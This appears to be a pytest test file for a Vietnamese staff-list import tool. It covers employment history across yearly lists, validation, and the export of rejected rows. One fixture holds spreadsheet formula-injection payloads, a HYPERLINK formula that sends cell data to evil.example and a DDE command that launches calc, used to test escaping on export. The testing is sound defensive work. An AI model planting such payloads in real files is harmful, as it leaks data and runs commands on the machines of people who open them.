"""Staff lists: history from successive lists, validation row by row, all or nothing."""

from __future__ import annotations

import csv
import unicodedata
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine, select

from binhdang.errors import BinhdangError
from binhdang.indicators.service import indicators_for
from binhdang.store.tables import OPEN_END, employment, person, position
from tests.factories import SMALL_TREE, STAFF_HEADER, UNIT_HEADER, staff_row, write_table
from tests.helpers import snapshot
from tests.imports import import_staff, import_units

D2020, D2021, D2022 = date(2020, 10, 1), date(2021, 10, 1), date(2022, 10, 1)


@pytest.fixture
def tree(engine: Engine, tmp_path: Path) -> Engine:
    import_units(engine, write_table(tmp_path / "units.csv", UNIT_HEADER, SMALL_TREE))
    return engine


def staff_file(tmp_path: Path, name: str, rows: list[list[object]]) -> Path:
    return write_table(tmp_path / name, STAFF_HEADER, rows)


def share(engine: Engine, code: str, on: date, subtree: bool = True) -> tuple[int, int]:
    with engine.connect() as connection:
        ratio = indicators_for(connection, code, on, subtree=subtree).get("women_share_staff").ratio
    return ratio.numerator, ratio.denominator


def problems_of(
    excinfo: pytest.ExceptionInfo[BinhdangError],
) -> list[tuple[int | None, str | None, str]]:
    return [(p.row, p.column, p.message.key) for p in excinfo.value.problems]


def test_first_list_creates_people_jobs_and_posts(tree: Engine, tmp_path: Path) -> None:
    path = staff_file(
        tmp_path,
        "staff.xlsx",
        [
            staff_row("C1", sex="Nữ", unit="ROOT", position="Giám đốc", level="Cấp trưởng"),
            staff_row("C2", sex="Nam", unit="A", position="Phó Trưởng phòng", level="Cấp phó"),
            staff_row("C3", sex="nu", unit="A1"),
        ],
    )
    outcome = import_staff(tree, path, D2021)
    assert (outcome.added, outcome.changed, outcome.ended, outcome.unchanged) == (3, 0, 0, 0)
    assert share(tree, "ROOT", D2021) == (2, 3)
    assert share(tree, "A", D2021) == (1, 2)
    assert share(tree, "ROOT", date(2021, 9, 30)) == (0, 0)  # nobody before the list's date
    with tree.connect() as connection:
        posts = connection.execute(select(position.c.level, position.c.valid_to)).all()
    assert sorted(posts) == [("deputy", OPEN_END), ("head", OPEN_END)]


def test_same_list_twice_changes_nothing(tree: Engine, tmp_path: Path) -> None:
    path = staff_file(tmp_path, "staff.csv", [staff_row("C1"), staff_row("C2", unit="B")])
    import_staff(tree, path, D2021)
    before = snapshot(tree)
    outcome = import_staff(tree, path, D2021)
    assert (outcome.added, outcome.changed, outcome.unchanged) == (0, 0, 2)
    assert snapshot(tree) == before


def test_history_from_three_lists(tree: Engine, tmp_path: Path) -> None:
    """2020: C1, C2 in A. 2021: C2 moves to B, C3 hired. 2022: C1 leaves, C3 becomes head of B."""
    import_staff(
        tree,
        staff_file(
            tmp_path,
            "2020.csv",
            [
                staff_row("C1", unit="A", sex="Nữ"),
                staff_row("C2", unit="A", sex="Nam"),
            ],
        ),
        D2020,
    )
    import_staff(
        tree,
        staff_file(
            tmp_path,
            "2021.xlsx",
            [
                staff_row("C1", unit="A", sex="Nữ"),
                staff_row("C2", unit="B", sex="Nam"),
                staff_row("C3", unit="B", sex="Nữ"),
            ],
        ),
        D2021,
        close_missing=True,
    )
    outcome = import_staff(
        tree,
        staff_file(
            tmp_path,
            "2022.csv",
            [
                staff_row("C2", unit="B", sex="Nam"),
                staff_row("C3", unit="B", sex="Nữ", position="Trưởng phòng", level="Cấp trưởng"),
            ],
        ),
        D2022,
        close_missing=True,
        scope="ROOT",
    )
    assert (outcome.added, outcome.changed, outcome.ended, outcome.unchanged) == (0, 1, 1, 1)

    assert share(tree, "A", D2020) == (1, 2)
    assert share(tree, "B", D2020) == (0, 0)
    for day in (date(2021, 3, 1), date(2021, 9, 30)):  # between the lists: the 2020 state
        assert share(tree, "A", day) == (1, 2)
    assert share(tree, "A", D2021) == (1, 1)
    assert share(tree, "B", D2021) == (1, 2)
    assert share(tree, "ROOT", date(2022, 5, 1)) == (2, 3)
    assert share(tree, "ROOT", D2022) == (1, 2)
    with tree.connect() as connection:
        heads = indicators_for(connection, "ROOT", D2022).get("women_share_key_leaders").ratio
        heads_before = (
            indicators_for(connection, "ROOT", D2021).get("women_share_key_leaders").ratio
        )
        jobs = connection.execute(
            select(employment.c.valid_from, employment.c.valid_to)
            .join(person, person.c.id == employment.c.person_id)
            .where(person.c.staff_code == "C2")
            .order_by(employment.c.valid_from)
        ).all()
    assert (heads.numerator, heads.denominator) == (1, 1)
    assert (heads_before.numerator, heads_before.denominator) == (0, 0)
    assert jobs == [(D2020, D2021), (D2021, OPEN_END)]


def test_missing_people_are_kept_without_close_missing(tree: Engine, tmp_path: Path) -> None:
    import_staff(tree, staff_file(tmp_path, "a.csv", [staff_row("C1"), staff_row("C2")]), D2020)
    outcome = import_staff(tree, staff_file(tmp_path, "b.csv", [staff_row("C1")]), D2021)
    assert outcome.ended == 0
    assert [w.message.key for w in outcome.warnings] == ["import.missing_person"]
    assert share(tree, "ROOT", D2021) == (2, 2)


def test_close_missing_only_touches_units_the_list_covers(tree: Engine, tmp_path: Path) -> None:
    import_staff(
        tree,
        staff_file(
            tmp_path,
            "all.csv",
            [
                staff_row("C1", unit="A"),
                staff_row("C2", unit="A1"),
                staff_row("C3", unit="B"),
                staff_row("C4", unit="A1"),
            ],
        ),
        D2020,
    )
    # A's own list (it names A and A1, so it covers A's subtree) without C2: C2 ends, and
    # B's C3 is not touched.
    outcome = import_staff(
        tree,
        staff_file(
            tmp_path,
            "a.csv",
            [
                staff_row("C1", unit="A"),
                staff_row("C4", unit="A1"),
            ],
        ),
        D2021,
        close_missing=True,
    )
    assert outcome.ended == 1
    assert share(tree, "ROOT", D2021) == (3, 3)
    assert share(tree, "A", D2021) == (2, 2)
    # With an explicit scope, the same list covers the whole tree: C3 ends too.
    outcome = import_staff(
        tree,
        staff_file(
            tmp_path,
            "a2.csv",
            [
                staff_row("C1", unit="A"),
                staff_row("C4", unit="A1"),
            ],
        ),
        D2021,
        close_missing=True,
        scope="ROOT",
    )
    assert outcome.ended == 1
    assert share(tree, "ROOT", D2021) == (2, 2)


def test_nfd_text_is_stored_as_nfc(tree: Engine, tmp_path: Path) -> None:
    name = unicodedata.normalize("NFD", "Nguyễn Thị Hoa")
    header = [unicodedata.normalize("NFD", h) for h in STAFF_HEADER]
    path = write_table(
        tmp_path / "nfd.csv",
        header,
        [
            staff_row(
                "C1",
                name=name,
                sex=unicodedata.normalize("NFD", "Nữ"),
                category=unicodedata.normalize("NFD", "Viên chức"),
            ),
        ],
    )
    import_staff(tree, path, D2021)
    with tree.connect() as connection:
        stored = connection.execute(select(person.c.full_name, person.c.sex)).one()
    assert stored == ("Nguyễn Thị Hoa", "F")


def test_english_headers_and_a_title_above_the_header(tree: Engine, tmp_path: Path) -> None:
    path = tmp_path / "english.csv"
    path.write_text(
        "STAFF LIST AS OF 01/10/2021\n\n"
        "No,staff_code,full_name,sex,date_of_birth,unit_code,category,Remarks\n"
        "1,E1,Tran Van An,male,1980-05-06,B,contract worker,\n"
        "2,E2,Le Thi Binh,F,06/07/1990,B,public employee,ok\n",
        encoding="utf-8",
    )
    outcome = import_staff(tree, path, D2021)
    assert outcome.added == 2
    assert [w.message.key for w in outcome.warnings] == ["col.unknown"]  # "Remarks"
    assert share(tree, "B", D2021) == (1, 2)


def test_every_bad_row_is_reported_and_nothing_is_saved(tree: Engine, tmp_path: Path) -> None:
    import_staff(tree, staff_file(tmp_path, "ok.csv", [staff_row("OLD")]), D2020)
    before = snapshot(tree, with_log=True)
    path = staff_file(
        tmp_path,
        "bad.xlsx",
        [
            staff_row("C1"),  # row 2: fine
            staff_row("C2", sex="X"),  # row 3: sex
            staff_row("C3", unit="NOPE"),  # row 4: unit
            staff_row("C1"),  # row 5: duplicate of row 2
            staff_row("C5", born="01/01/2010"),  # row 6: 11 years old
            staff_row("C6", born="31/02/1980"),  # row 7: no such date
            staff_row("C7", category="Bộ đội"),  # row 8: category
            staff_row("C8", position="Trưởng phòng", level="Sếp"),  # row 9: level
            staff_row("", name=""),  # row 10: empty name (no code is allowed)
            staff_row("C10", born="01/01/1930"),  # row 11: 91 years old
        ],
    )
    with pytest.raises(BinhdangError) as excinfo:
        import_staff(tree, path, D2021)
    assert problems_of(excinfo) == [
        (3, "Giới tính", "val.sex"),
        (4, "Mã đơn vị", "val.unit_not_found"),
        (5, "Mã cán bộ", "val.duplicate_code"),
        (6, "Ngày sinh", "val.age"),
        (7, "Ngày sinh", "val.date"),
        (8, "Loại cán bộ", "val.category"),
        (9, "Cấp chức vụ", "val.level"),
        (10, "Họ và tên", "val.required"),
        (11, "Ngày sinh", "val.age"),
    ]
    rendered = excinfo.value.problems[0].render("vi")
    assert rendered.startswith("bad.xlsx, dòng 3, cột «Giới tính»: «X» không phải giới tính")
    assert excinfo.value.problems[0].render("en").startswith("bad.xlsx, row 3, column “Giới tính”")
    assert snapshot(tree, with_log=True) == before


def test_skip_invalid_imports_the_valid_rows_and_writes_the_rejected(
    tree: Engine, tmp_path: Path
) -> None:
    path = staff_file(
        tmp_path,
        "mixed.xlsx",
        [
            staff_row("C1"),
            staff_row("C2", sex="?"),
            staff_row("C3", unit="B"),
        ],
    )
    outcome = import_staff(tree, path, D2021, skip_invalid=True)
    assert outcome.added == 2
    assert outcome.rejected_file == tmp_path / "mixed.rejected.xlsx"
    rows = list(load_workbook(outcome.rejected_file).active.iter_rows(values_only=True))
    assert rows[0][-1] == "Lý do"
    assert rows[1][0] == "C2"
    assert "dòng 3" in rows[1][-1] and "Giới tính" in rows[1][-1]
    assert len(rows) == 2
    assert share(tree, "ROOT", D2021) == (2, 2)


FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?x="&B2,"Xem")', "+cmd|' /C calc'!A0",
                 "@SUM(A1:A9)", "-2+3", "'chỉ một dấu nháy", "-5"]  # fmt: skip


def test_a_rejected_csv_reimports_as_the_text_that_was_written(
    tree: Engine, tmp_path: Path
) -> None:
    """The rejected-rows CSV puts an apostrophe before formula-like text (binhdang.exports);
    once its errors are corrected, importing it gives the names as they were, not "'=…"."""
    rows = [staff_row(f"C{i}", name=name, sex="?") for i, name in enumerate(FORMULA_NAMES)]
    path = staff_file(tmp_path, "hostile.csv", [staff_row("OK"), *rows])
    outcome = import_staff(tree, path, D2021, skip_invalid=True)
    assert outcome.rejected_file == tmp_path / "hostile.rejected.csv"
    with outcome.rejected_file.open(encoding="utf-8-sig", newline="") as handle:
        written = list(csv.reader(handle))
    assert [line[1] for line in written[1:]] == [
        "'" + name if name[0] in "=+@" or name == "-2+3" else name for name in FORMULA_NAMES
    ]
    corrected = [[*line[:2], "Nữ", *line[3:-1]] for line in written[1:]]  # sex fixed, no reason
    with outcome.rejected_file.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle).writerows([written[0][:-1], *corrected])
    again = import_staff(tree, outcome.rejected_file, D2021)
    assert again.added == len(FORMULA_NAMES)
    with tree.connect() as connection:
        names = dict(connection.execute(select(person.c.staff_code, person.c.full_name)).all())
    assert [names[f"C{i}"] for i in range(len(FORMULA_NAMES))] == FORMULA_NAMES


def test_missing_required_column_is_an_error(tree: Engine, tmp_path: Path) -> None:
    header = [h for h in STAFF_HEADER if h != "Giới tính"]
    path = write_table(tmp_path / "nosex.csv", header, [["C1", "A", "01/01/1980", "ROOT", "VC"]])
    with pytest.raises(BinhdangError) as excinfo:
        import_staff(tree, path, D2021)
    assert problems_of(excinfo) == [(1, None, "col.missing")]


def test_a_unit_code_column_beside_a_unit_name_column_reads_the_code(
    tree: Engine, tmp_path: Path
) -> None:
    """binhdang's own staff export (and many lists) carry "Mã đơn vị" and "Tên đơn vị": the
    field's own column is read, the synonym left aside with a warning; two synonyms of one
    field are still an error (which one is meant cannot be told)."""
    header = [*STAFF_HEADER, "Tên đơn vị"]
    path = write_table(tmp_path / "both.csv", header, [[*staff_row("C1", unit="A"), "Phòng B"]])
    outcome = import_staff(tree, path, D2021)
    assert [w.message.key for w in outcome.warnings] == ["col.shadowed"]
    assert outcome.warnings[0].message.render("vi") == (
        "cột «Tên đơn vị» không dùng: đã có cột «Mã đơn vị»"
    )
    assert share(tree, "A", D2021) == (1, 1) and share(tree, "B", D2021) == (0, 0)
    header = ["Đơn vị" if h == "Mã đơn vị" else h for h in STAFF_HEADER] + ["Tên đơn vị"]
    path = write_table(tmp_path / "two.csv", header, [[*staff_row("C2", unit="A"), "Phòng A"]])
    with pytest.raises(BinhdangError) as excinfo:
        import_staff(tree, path, D2021)
    assert problems_of(excinfo) == [(1, None, "col.duplicate")]


def test_corrected_list_for_the_same_date_replaces_it(tree: Engine, tmp_path: Path) -> None:
    import_staff(tree, staff_file(tmp_path, "v1.csv", [staff_row("C1", unit="A")]), D2021)
    outcome = import_staff(tree, staff_file(tmp_path, "v2.csv", [staff_row("C1", unit="B")]), D2021)
    assert outcome.changed == 1
    assert share(tree, "A", D2021) == (0, 0)
    assert share(tree, "B", D2021) == (1, 1)
    with tree.connect() as connection:
        assert connection.execute(select(employment)).all().__len__() == 1  # no empty record


def test_earlier_list_must_agree_with_history(tree: Engine, tmp_path: Path) -> None:
    import_staff(tree, staff_file(tmp_path, "2020.csv", [staff_row("C1", unit="A")]), D2020)
    import_staff(tree, staff_file(tmp_path, "2022.csv", [staff_row("C1", unit="B")]), D2022)
    before = snapshot(tree, with_log=True)
    # 2021 agrees with what is stored for 2021 (C1 still in A): accepted, nothing changes.
    same = import_staff(
        tree, staff_file(tmp_path, "2021ok.csv", [staff_row("C1", unit="A")]), D2021
    )
    assert (same.changed, same.added) == (0, 0)
    assert snapshot(tree) == {k: v for k, v in before.items() if k != "import_batch"}
    # 2021 says C1 was already in B: it contradicts the stored history.
    with pytest.raises(BinhdangError) as excinfo:
        import_staff(tree, staff_file(tmp_path, "2021bad.csv", [staff_row("C1", unit="B")]), D2021)
    assert excinfo.value.message.key == "val.earlier_list_conflict"
    assert snapshot(tree) == {k: v for k, v in before.items() if k != "import_batch"}


def test_a_person_who_left_can_come_back(tree: Engine, tmp_path: Path) -> None:
    import_staff(tree, staff_file(tmp_path, "a.csv", [staff_row("C1"), staff_row("C2")]), D2020)
    import_staff(tree, staff_file(tmp_path, "b.csv", [staff_row("C2")]), D2021, close_missing=True)
    assert share(tree, "ROOT", D2021) == (1, 1)
    outcome = import_staff(
        tree, staff_file(tmp_path, "c.csv", [staff_row("C1"), staff_row("C2")]), D2022
    )
    assert outcome.added == 1
    assert share(tree, "ROOT", date(2022, 1, 1)) == (1, 1)
    assert share(tree, "ROOT", D2022) == (2, 2)
